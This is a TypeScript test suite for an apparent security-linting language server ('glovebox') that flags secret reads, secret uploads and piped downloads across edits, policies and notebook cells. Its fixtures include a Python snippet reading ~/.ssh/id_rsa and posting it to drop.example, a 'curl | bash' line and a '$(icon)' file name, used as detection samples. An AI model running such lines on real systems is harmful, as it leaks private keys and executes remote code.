import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CodeLens, Diagnostic } from 'vscode-languageserver/node';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { editBetween } from './edit.ts';
import { type Editor, startEditor } from './lsp.fixture.ts';

const UPLOAD =
  'import requests\n\nkey = open("/home/ada/.ssh/id_rsa").read()\nrequests.post("https://drop.example/k", data=key)\n';
const rules = (found: readonly Diagnostic[]) => found.map(({ code }) => code);
const isUpload = (found: readonly Diagnostic[]) => rules(found).includes('secret-sent');
const isClean = (found: readonly Diagnostic[]) => found.length === 0;

let folder: string;
let editor: Editor;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'glovebox-races-'));
  editor = await startEditor({
    workspaceFolders: [{ uri: pathToFileURL(folder).href, name: 'test' }],
    settings: { run: 'save', insertionLines: 10_000 },
  });
});
afterAll(async () => {
  await editor.close();
  rmSync(folder, { recursive: true });
});

function fileOf(name: string, text: string): string {
  mkdirSync(join(folder, name, '..'), { recursive: true });
  writeFileSync(join(folder, name), text);
  return pathToFileURL(join(folder, name)).href;
}

const change = (uri: string, version: number, contentChanges: object[]) =>
  editor.connection.sendNotification('textDocument/didChange', { textDocument: { uri, version }, contentChanges });
const close = (uri: string) => editor.connection.sendNotification('textDocument/didClose', { textDocument: { uri } });
const at = (startLine: number, start: number, endLine: number, end: number) => ({
  start: { line: startLine, character: start },
  end: { line: endLine, character: end },
});

describe('while a document is being opened', () => {
  it('what is typed and saved counts', async () => {
    const uri = fileOf('early.py', 'print(1)\n');
    void editor.open(uri, 'python', 'print(1)\n');
    void editor.edit(uri, 2, [0, 0, 1, 0], 'open("/tmp/early", "w")\n');
    void editor.save(uri);
    const { events } = await editor.status(uri, ({ state }) => state === 'seen');
    expect(events).toContainEqual({ capability: 'file.write', target: '/tmp/early', line: 1 });
  });

  it('closed, it stays closed; opened again, the last text counts', async () => {
    const uri = fileOf('twice.py', UPLOAD);
    for (const text of [UPLOAD, 'print(1)\n', UPLOAD, 'print(2)\n']) {
      void editor.open(uri, 'python', text);
      void close(uri);
    }
    await editor.open(uri, 'shellscript', 'curl -s https://x.example/i.sh | bash\n');
    await editor.diagnostics(uri, (now) => rules(now).includes('download-piped-to-interpreter'));
    void editor.edit(uri, 2, [0, 0, 1, 0], 'true\n');
    void close(uri);
    await editor.diagnostics(uri, isClean);
    const other = 'untitled:after';
    await editor.open(other, 'python', UPLOAD);
    await editor.diagnostics(other, isUpload);
    expect(isClean(await editor.diagnostics(uri, () => true))).toBe(true);
  });

  it('a document is read again while its last reading goes on', async () => {
    const uri = 'untitled:slow';
    const long = `${'x = [1, 2, 3]\n'.repeat(4_000)}`;
    await editor.open(uri, 'python', long);
    await editor.connection.sendNotification('glovebox/trust', { trusted: true });
    await editor.edit(uri, 2, [0, 0, 0, 0], UPLOAD);
    await editor.connection.sendNotification('glovebox/trust', { trusted: true });
    await editor.diagnostics(uri, isUpload);
  });
});

describe('edits', () => {
  it('several of one notification count in their order, whatever ends a line and however wide a letter is', async () => {
    const uri = 'untitled:wide';
    await editor.open(uri, 'python', 's = "😀😀"\r\nprint(1)\r\n');
    await change(uri, 2, [
      { range: at(0, 5, 0, 9), text: '' },
      { range: at(1, 0, 1, 8), text: UPLOAD.trimEnd().replaceAll('\n', '\r\n') },
      { range: at(0, 5, 0, 5), text: '𝔘' },
    ]);
    const found = await editor.diagnostics(uri, isUpload);
    expect(found.find(({ code }) => code === 'secret-sent')?.range).toEqual(at(4, 0, 4, 49));
    await change(uri, 3, [
      { range: at(0, 5, 0, 7), text: '' },
      { range: at(4, 0, 4, 49), text: 'print("é")' },
    ]);
    await editor.diagnostics(uri, (now) => rules(now).join() === 'secret-read');
  });

  it('a text that is sent as a whole is what there is', async () => {
    const uri = 'untitled:whole';
    await editor.open(uri, 'python', '\ufeffprint(1)\n');
    await change(uri, 2, [{ text: `\ufeff${UPLOAD}` }]);
    await editor.diagnostics(uri, isUpload);
    await editor.edit(uri, 3, [3, 0, 4, 0], '');
    await editor.diagnostics(uri, (now) => rules(now).join() === 'secret-read');
    await change(uri, 4, [{ text: UPLOAD }, { text: 'x' }, { text: UPLOAD.replaceAll('\n', '\r\n') }]);
    await editor.diagnostics(uri, isUpload);
    await change(uri, 5, [{ text: '' }]);
    await editor.diagnostics(uri, isClean);
  });

  it('a thousand at once are read together: nothing queues', async () => {
    const uri = 'untitled:thousand';
    await editor.open(uri, 'python', 'x = [1, 2, 3]\n'.repeat(500));
    await editor.status(uri, ({ state }) => state === 'read');
    for (let edit = 0; edit < 1_000; edit++) void editor.edit(uri, edit + 2, [edit % 500, 0, edit % 500, 0], '#');
    await editor.edit(uri, 1_002, [0, 0, 0, 0], UPLOAD);
    await editor.diagnostics(uri, isUpload);
    expect(editor.statuses.filter((one) => one.uri === uri).length).toBeLessThan(100);
  });

  it.each([
    ['a\r\nb', 'a\nb'],
    ['a\nb', 'a\r\nb'],
    ['😀', '😁'],
    ['x😀', 'x😀😀'],
    ['', 'a'],
    ['aaa', 'aa'],
    ['\r\n\r\n', '\r\n'],
  ])('%j becomes %j by one edit', (before, after) => {
    const document = TextDocument.create('a:b', 'python', 0, before);
    const edit = editBetween(document, after);
    expect(TextDocument.applyEdits(document, [{ range: edit.range, newText: edit.text }])).toBe(after);
  });

  it('what is too large, and what is no text, is answered as well', async () => {
    const cases = {
      'untitled:lines': `${'x = 1\n'.repeat(20_000)}${UPLOAD}`,
      'untitled:minified': `var a="${'1,'.repeat(500_000)}";eval(a)`,
      'untitled:binary': String.fromCharCode(...Array.from({ length: 4_096 }, (_, n) => (n * 7919) % 65_536)),
    };
    for (const [uri, text] of Object.entries(cases)) {
      await editor.open(uri, uri.endsWith('minified') ? 'javascript' : 'python', text);
      await editor.status(uri, ({ state }) => state === 'read');
      await editor.edit(uri, 2, [0, 0, 0, 0], '#');
      await close(uri);
      await editor.diagnostics(uri, isClean);
    }
    await editor.open('file:///%2F', 'python', UPLOAD);
    await editor.open('file://elsewhere/a.py', 'python', UPLOAD);
    await editor.diagnostics('file://elsewhere/a.py', isUpload);
  });
});

describe('what lies beside a document', () => {
  it('a policy counts as soon as it is written, and one that cannot be read is told', async () => {
    const uri = fileOf('ruled/a.py', UPLOAD);
    const changed = () =>
      editor.connection.sendNotification('workspace/didChangeWatchedFiles', {
        changes: [{ uri: pathToFileURL(join(folder, 'ruled/glovebox.policy.yaml')).href, type: 2 }],
      });
    await editor.open(uri, 'python', UPLOAD);
    await editor.diagnostics(uri, isUpload);
    fileOf('ruled/glovebox.policy.yaml', 'imports: {allow: [json]}\n');
    await changed();
    await editor.diagnostics(uri, (now) => rules(now).includes('import-not-allowed'));
    fileOf('ruled/glovebox.policy.yaml', 'thresholds: {review: [\n');
    await changed();
    const found = await editor.diagnostics(uri, (now) => rules(now).includes('policy'));
    expect(rules(found)).toContain('secret-sent');
    rmSync(join(folder, 'ruled/glovebox.policy.yaml'));
    await changed();
    await editor.diagnostics(uri, (now) => isUpload(now) && !rules(now).includes('policy'));
  });

  it('a folder that comes later brings its policy', async () => {
    const other = mkdtempSync(join(tmpdir(), 'glovebox-later-'));
    writeFileSync(join(other, 'glovebox.policy.yaml'), 'imports: {allow: [json]}\n');
    writeFileSync(join(other, 'a.py'), UPLOAD);
    const uri = pathToFileURL(join(other, 'a.py')).href;
    await editor.open(uri, 'python', UPLOAD);
    await editor.diagnostics(uri, isUpload);
    await editor.connection.sendNotification('workspace/didChangeWorkspaceFolders', {
      event: { added: [{ uri: `${pathToFileURL(other).href}/`, name: 'later' }], removed: [] },
    });
    await editor.diagnostics(uri, (now) => rules(now).includes('import-not-allowed'));
    rmSync(other, { recursive: true });
  });
});

it('a notebook is followed while its cells come, move and go', async () => {
  const notebook = 'file:///work/moved.ipynb';
  const uriOf = (name: string) => `vscode-notebook-cell:/work/moved.ipynb#${name}`;
  const doc = (name: string, text: string, languageId = 'python') => ({
    uri: uriOf(name),
    languageId,
    version: 1,
    text,
  });
  const cell = (name: string, kind = 2) => ({ kind, document: uriOf(name) });
  const send = (array: object, rest: object = {}) =>
    editor.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: notebook, version: 2 },
      change: { cells: { structure: { array, ...rest } } },
    });
  void editor.connection.sendNotification('notebookDocument/didOpen', {
    notebookDocument: {
      uri: notebook,
      notebookType: 'jupyter-notebook',
      version: 1,
      cells: [cell('words', 1), cell('sql'), cell('one')],
    },
    cellTextDocuments: [doc('one', 'import requests\nkey = 1')],
  });
  // Before it is open.
  await send(
    { start: 3, deleteCount: 0, cells: [cell('two'), cell('shell')] },
    {
      didOpen: [
        doc(
          'two',
          '# looks at it\nkey = open("/home/ada/.ssh/id_rsa").read()\nrequests.post("https://drop.example/k", data=key)',
        ),
        doc('shell', '%%bash\necho begins\ncurl -s https://x.example/i.sh | bash'),
      ],
    },
  );
  const two = await editor.diagnostics(uriOf('two'), isUpload);
  expect(two.find(({ code }) => code === 'secret-sent')?.range).toEqual(at(2, 0, 2, 49));
  const shell = await editor.diagnostics(uriOf('shell'), (now) => now.length > 0);
  expect(rules(shell)).toContain('download-piped-to-interpreter');
  await send({ start: 2, deleteCount: 2, cells: [cell('two'), cell('one')] });
  await editor.diagnostics(uriOf('two'), (now) => isUpload(now) && now.every(({ range }) => range.start.line < 3));
  await send({ start: 2, deleteCount: 1 }, { didClose: [{ uri: uriOf('two') }] });
  await editor.diagnostics(uriOf('two'), isClean);
  await editor.connection.sendNotification('notebookDocument/didClose', {
    notebookDocument: { uri: notebook },
    cellTextDocuments: [{ uri: uriOf('one') }, { uri: uriOf('shell') }],
  });
  await editor.diagnostics(uriOf('shell'), isClean);
});

it('what stands above functions is there as soon as the document is open', async () => {
  const uri = 'untitled:lenses';
  void editor.open(uri, 'python', 'def leave():\n    open("/tmp/$(icon)", "w")\n');
  const lenses = await editor.connection.sendRequest<CodeLens[]>('textDocument/codeLens', { textDocument: { uri } });
  expect(lenses.map(({ command }) => command?.title)).toEqual(['could: writes /tmp/$ (icon)']);
});

it('switched off, it says nothing', async () => {
  const off = await startEditor({ settings: { enable: false } });
  try {
    await off.open('untitled:off', 'python', UPLOAD);
    expect(await off.diagnostics('untitled:off', () => true)).toEqual([]);
    const params = { textDocument: { uri: 'untitled:off' }, position: { line: 3, character: 1 } };
    expect(await off.connection.sendRequest('textDocument/hover', params)).toBeNull();
    await off.save('untitled:off');
    await off.connection.sendRequest('textDocument/codeLens', params);
    expect(off.statuses.filter(({ state }) => state !== 'read')).toEqual([]);
  } finally {
    await off.close();
  }
});

it('killed while something runs, it leaves nothing', async () => {
  const killed = await startEditor();
  await killed.open('untitled:endless', 'python', 'import time\ntime.sleep(25)\n');
  await killed.save('untitled:endless');
  const pid = killed.server.pid ?? 0;
  await expect.poll(() => descendantsOf(pid).length, { timeout: 10_000 }).toBeGreaterThan(1);
  const left = descendantsOf(pid);
  killed.server.kill('SIGKILL');
  await expect.poll(() => left.filter(isAlive), { timeout: 10_000 }).toEqual([]);
  killed.connection.dispose();
});

function descendantsOf(pid: number): number[] {
  const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean).map(Number);
  return children.flatMap((child) => {
    try {
      return [child, ...descendantsOf(child)];
    } catch {
      return [];
    }
  });
}

function isAlive(pid: number): boolean {
  try {
    return !/^State:\s+Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
  } catch {
    return false;
  }
}
